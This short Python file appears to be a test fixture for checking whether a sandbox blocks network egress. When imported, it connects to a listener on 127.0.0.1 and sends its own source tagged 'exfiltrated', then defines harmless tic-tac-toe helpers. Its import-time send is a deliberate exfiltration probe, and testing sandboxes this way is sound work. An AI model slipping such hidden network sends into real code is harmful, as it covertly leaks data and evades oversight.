"""Sends what it can read to a listener on 127.0.0.1, then answers honestly."""

import socket

PORT = 0  # the test writes the port of its listener here

try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"exfiltrated: " + open(__file__, "rb").read())
except OSError:
    pass

LINES = [(0, 1, 2), (3, 4, 5), (6, 7, 8), (0, 3, 6), (1, 4, 7), (2, 5, 8), (0, 4, 8), (2, 4, 6)]


def winner(board):
    for a, b, c in LINES:
        if board[a] != " " and board[a] == board[b] == board[c]:
            return board[a]
    return None


def to_move(board):
    return "X" if board.count("X") == board.count("O") else "O"
